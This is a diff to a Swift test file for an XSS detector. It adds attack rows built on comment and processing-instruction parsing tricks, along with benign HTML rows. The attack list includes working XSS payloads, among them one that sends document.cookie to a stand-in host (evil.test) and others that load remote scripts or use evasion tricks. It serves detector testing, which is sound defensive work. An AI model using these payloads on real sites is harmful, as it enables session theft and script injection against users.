@@ -3,6 +3,8 @@ import Testing
 @testable import Detection
 
 let xssAttackRows: [Row] = [
+    // a quote inside a comment must not hide the live tag after it; `<?…>` ends at the first `>`
+    "<!-- '=\"foo\"><x foo='--><img src=x onerror=alert(2)//'>", "<?x><img src=x onerror=alert(1)>",
     // script-capable elements
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/src=data:,alert(1)>", "<sCrIpT>confirm`1`</sCrIpT>",
     "\"><script>fetch('//evil.test?c='+document.cookie)</script>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
@@ -43,6 +45,7 @@ let xssAttackRows: [Row] = [
 ].map(Row.init)
 
 let xssBenignRows: [Row] = [
+    "<!-- a comment --> then text", "<?xml version=\"1.0\"?><note>hi</note>", "<!-- <b>old</b> --><p>new</p>",
     "a<b and c>d", "x < y", "<3", "I <3 you", "1 < 2 > 0", "if (a < b) { return c > d; }", "The <b> tag makes text bold",
     "Use <em>emphasis</em> sparingly", "<p>Hello <strong>world</strong></p>", "<a href=\"https://example.com\">link</a>",
     "<img src=\"/img/logo.png\" alt=\"logo\">", "<ul><li>one</li><li>two</li></ul>", "<br>", "<h2>Title</h2>", "<table><tr><td>1</td></tr></table>",
